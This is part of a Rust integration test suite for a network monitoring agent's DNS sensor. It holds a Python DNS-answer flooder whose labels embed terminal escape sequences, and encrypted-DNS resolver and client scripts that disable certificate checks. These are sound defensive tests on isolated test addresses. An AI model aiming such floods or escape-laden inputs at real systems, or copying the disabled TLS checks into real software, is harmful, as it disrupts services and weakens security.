         q, peer = s.recvfrom(512)\n\
         for i in range({FLOOD}):\n\
         \x20   label = ('x%06d-' % i).encode() + b'\\x1b[31m' * 8\n\
         \x20   name = bytes([len(label)]) + label + b'\\x05flood\\x04test\\x00'\n\
         \x20   hdr = struct.pack('>HHHHHH', i & 0xffff, 0x8180, 1, 1, 0, 0)\n\
         \x20   addr = b'\\x20\\x01\\x0d\\xb8\\x00\\x01' + bytes(7) + bytes([(i >> 16) & 255, (i >> 8) & 255, i & 255])\n\
         \x20   rr = b'\\xc0\\x0c' + struct.pack('>HHIH', 28, 1, 3600, 16) + addr\n\
         \x20   s.sendto(hdr + name + b'\\x00\\x01\\x00\\x01' + rr, peer)\n\
         q, peer = s.recvfrom(512)\n\
         last = b'\\x04last\\x05flood\\x04test\\x00'\n\
         rr = b'\\xc0\\x0c' + struct.pack('>HHIH', 28, 1, 3600, 16) + b'\\x20\\x01\\x0d\\xb8\\x00\\x01' + bytes(8) + b'\\xff\\xff'\n\
         s.sendto(struct.pack('>HHHHHH', 2, 0x8180, 1, 1, 0, 0) + last + b'\\x00\\x1c\\x00\\x01' + rr, peer)\n"
    );
    let child = procs.spawn(
        Command::new("ip")
            .args([
                "netns",
                "exec",
                net.ns(),
                "/usr/bin/python3",
                "-c",
                &flooder,
            ])
            .stdout(Stdio::piped()),
    );
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    assert_eq!(line.trim(), "ready");
    let victim = format!(
        "import socket, time\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('{DE4}', 53))\n\
         s.send(b'\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x05flood\\x04test\\x00\\x00\\x01\\x00\\x01')\n\
         input()\n\
         s.send(b'\\x00\\x02\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04last\\x05flood\\x04test\\x00\\x00\\x1c\\x00\\x01')\n\
         time.sleep(20)\n"
    );
    let mut victim_in = procs
        .spawn(
            Command::new("/usr/bin/python3")
                .args(["-c", &victim])
                .stdin(Stdio::piped()),
        )
        .stdin
        .take()
        .unwrap();
    // The flood arrives; the agent keeps count of what it saw and lost.
    let seen = |s: &Value| {
        s["sensors"]["dns"]["seen"].as_u64().unwrap_or(0)
            + s["sensors"]["dns"]["lost"].as_u64().unwrap_or(0)
    };
    // Wait until the flood is over and the agent has read what the ring took: the count
    // (read, or lost when the ring was full) stands still. The answer that follows must find
    // room in the ring; one sent while the flood still fills it would be counted lost, which
    // says nothing about the agent.
    let deadline = Instant::now() + Duration::from_secs(60);
    let mut last = 0;
    loop {
        let now = seen(&agent.status());
        if now >= seen(&before) + u64::from(FLOOD) * 9 / 10 && now == last {
            break;
        }
        last = now;
        assert!(
            Instant::now() < deadline,
            "the flood never reached the agent: {}",
            agent.status()
        );
        thread::sleep(Duration::from_millis(500));
    }
    // Bounded memory: the name cache's caps, not the flood's size.
    let grown = rss_kib(agent.pid()).saturating_sub(rss_before);
    assert!(grown < 64 * 1024, "the agent grew by {grown} KiB");
    // Right after the flood, an answer is still taken in: a connect to its address carries
    // its name (the host's, since this process never asked).
    victim_in.write_all(b"again\n").unwrap();
    let marker = "2001:db8:1::ffff";
    let deadline = Instant::now() + Duration::from_secs(15);
    loop {
        common::netns::knock(marker, 443);
        let named = agent
            .events("connect")
            .iter()
            .any(|e| e["daddr"] == marker && e["domain"] == "last.flood.test");
        if named {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the answer after the flood was not taken in: {}",
            agent.status()
        );
        thread::sleep(Duration::from_millis(500));
    }
    // Not stalled: a real resolution right after is named.
    let dir = tempfile::tempdir().unwrap();
    let files = resolver_files(dir.path(), "after", CN4);
    let (pid, mut stdin, mut stdout) = client(
        &net,
        false,
        &files,
        "c2.sentinel.test",
        CONNECT_ALL,
        &mut procs,
    );
    connect_now(&mut stdin, &mut stdout);
    let ev = connect_of(&agent, pid, RU4);
    assert_eq!(ev["domain"], "c2.sentinel.test", "{ev}");
}

/// A resolver for [`encrypted_dns_yields_no_name`], run on the test host: answers `A`
/// questions from the zone given as `name=address` arguments over plain UDP (port 53), DNS
/// over TLS (853, RFC 7858: two-byte length, then the message) and DNS over HTTPS (443, RFC
/// 8484: `POST /dns-query`, `application/dns-message`), with the certificate `cert.pem` and
/// `key.pem` in its working directory. Prints `ready` once all three listen.
const ENCRYPTED_RESOLVER: &str = r#"
import http.server, socket, socketserver, ssl, struct, sys, threading
listen = sys.argv[1]
zone = dict(a.split("=") for a in sys.argv[2:])

def answer(q):
    i, labels = 12, []
    while q[i]:
        labels.append(q[i + 1:i + 1 + q[i]].decode()); i += 1 + q[i]
    qtype = struct.unpack("!H", q[i + 1:i + 3])[0]
    question = q[12:i + 5]
    addr = zone.get(".".join(labels).lower()) if qtype == 1 else None
    head = q[:2] + struct.pack("!HHHHH", 0x8180, 1, 1 if addr else 0, 0, 0)
    rr = struct.pack("!HHHIH", 0xC00C, 1, 1, 60, 4) + socket.inet_aton(addr) if addr else b""
    return head + question + rr

tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
tls.load_cert_chain("cert.pem", "key.pem")

class Dot(socketserver.BaseRequestHandler):
    def handle(self):
        s = tls.wrap_socket(self.request, server_side=True)
        n = struct.unpack("!H", s.recv(2))[0]
        q = b""
        while len(q) < n:
            q += s.recv(n - len(q))
        a = answer(q)
        s.sendall(struct.pack("!H", len(a)) + a)
        s.close()

class Doh(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        a = answer(self.rfile.read(int(self.headers["Content-Length"])))
        self.send_response(200)
        self.send_header("Content-Type", "application/dns-message")
        self.send_header("Content-Length", str(len(a)))
        self.end_headers()
        self.wfile.write(a)
    def log_message(self, *args):
        pass

socketserver.ThreadingTCPServer.allow_reuse_address = True
dot = socketserver.ThreadingTCPServer((listen, 853), Dot)
doh = http.server.ThreadingHTTPServer((listen, 443), Doh)
doh.socket = tls.wrap_socket(doh.socket, server_side=True)
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.bind((listen, 53))
for server in (dot, doh):
    threading.Thread(target=server.serve_forever, daemon=True).start()
print("ready", flush=True)
while True:
    q, peer = udp.recvfrom(512)
    udp.sendto(answer(q), peer)
"#;

/// A client for [`encrypted_dns_yields_no_name`]: asks the resolver at `argv[1]` for
/// `argv[3]` over `argv[2]` (`udp`, `dot` or `doh`, with no certificate check: the test's
/// own), prints the address, connects to it (port 443: the test host resets), and says
/// `connected`. It asks by itself, as a program with its own DoH client (a browser, a
/// malware's stub) does: glibc plays no part.
const ENCRYPTED_CLIENT: &str = r#"
import http.client, random, socket, ssl, struct, sys
server, how, name = sys.argv[1:4]
q = struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
q += struct.pack("!HH", 1, 1)
insecure = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
insecure.check_hostname = False
insecure.verify_mode = ssl.CERT_NONE
if how == "udp":
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    s.connect((server, 53)); s.send(q); a = s.recv(512)
elif how == "dot":
    s = insecure.wrap_socket(socket.create_connection((server, 853), timeout=5))
    s.sendall(struct.pack("!H", len(q)) + q)
    n = struct.unpack("!H", s.recv(2))[0]
    a = b""
    while len(a) < n:
        a += s.recv(n - len(a))
else:
    c = http.client.HTTPSConnection(server, 443, timeout=5, context=insecure)
    c.request("POST", "/dns-query", q, {"Content-Type": "application/dns-message"})
    a = c.getresponse().read()
addr = socket.inet_ntoa(a[-4:])
print("resolved", addr, flush=True)
s = socket.socket(); s.settimeout(2)
try: s.connect((addr, 443))
except OSError: pass
s.close()
print("connected", flush=True)
"#;

/// Run [`ENCRYPTED_CLIENT`] to completion: its pid and the address it was told.
fn encrypted_client(dir: &Path, how: &str, name: &str, procs: &mut Procs) -> (u32, String) {
    let child = procs.spawn(
        Command::new("/usr/bin/python3")
            .arg(dir.join("client.py"))
            .args([DE4, how, name])
            .stdout(Stdio::piped()),
    );
    let pid = child.id();
    let lines: Vec<String> = BufReader::new(child.stdout.take().unwrap())
        .lines()
        .map_while(Result::ok)
        .collect();
    assert_eq!(
        lines.last().map(String::as_str),
        Some("connected"),
        "{how} client for {name}: {lines:?}"
    );
    let addr = lines[0].strip_prefix("resolved ").unwrap_or("").to_string();
    (pid, addr)
}

#[test]
fn encrypted_dns_yields_no_name() {
    if !common::require_root("encrypted_dns_yields_no_name") {
        return;
    }
    let _serial = common::serial();
    let net = TestNet::new("dnsenc");
    let mut procs = Procs::default();
    let dir = tempfile::tempdir().unwrap();
    let made = Command::new("openssl")
        .args([
            "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1",
        ])
        .args(["-subj", "/CN=resolver.sentinel.test"])
        .args(["-keyout", "key.pem", "-out", "cert.pem"])
        .current_dir(dir.path())
        .output()
        .expect("openssl (scripts/setup.sh installs it)");
    assert!(made.status.success(), "{made:?}");
    std::fs::write(dir.path().join("resolver.py"), ENCRYPTED_RESOLVER).unwrap();
    std::fs::write(dir.path().join("client.py"), ENCRYPTED_CLIENT).unwrap();
    let resolver = procs.spawn(
        Command::new("ip")
            .args([
                "netns",
                "exec",
                net.ns(),
                "/usr/bin/python3",
                "resolver.py",
                DE4,
            ])
            .args([
                format!("dot.sentinel.test={RU4}"),
                format!("doh.sentinel.test={CN4}"),
                format!("plain.sentinel.test={RU4}"),
            ])
            .current_dir(dir.path())
            .stdout(Stdio::piped()),
    );
    let mut ready = String::new();
    BufReader::new(resolver.stdout.take().unwrap())
        .read_line(&mut ready)
        .unwrap();
    assert_eq!(ready.trim(), "ready", "the test's resolver did not start");
    let agent = Agent::start("");
    assert_eq!(agent.status()["sensors"]["dns"]["attached"], true);

    // Over TLS and over HTTPS the answer is encrypted: the connects carry no name, and the
    // alerts name only the address.
    for (how, name, addr) in [
        ("dot", "dot.sentinel.test", RU4),
        ("doh", "doh.sentinel.test", CN4),
    ] {
        let (pid, told) = encrypted_client(dir.path(), how, name, &mut procs);
        assert_eq!(told, addr, "{how}: the resolver's answer");
        let ev = connect_of(&agent, pid, addr);
        assert!(ev["domain"].is_null(), "{how}: {ev}");
        let alert = geo_alert_of(&agent, pid);
        assert!(alert["domain"].is_null(), "{how}: {alert}");
        assert!(
            !alert["detail"].as_str().unwrap().contains(name),
            "{how}: {alert}"
        );
    }
    // The same resolver asked in the clear, for the same address: the name is there.
    let (pid, told) = encrypted_client(dir.path(), "udp", "plain.sentinel.test", &mut procs);
    assert_eq!(told, RU4);
    let ev = connect_of(&agent, pid, RU4);
    assert_eq!(ev["domain"], "plain.sentinel.test", "{ev}");
}
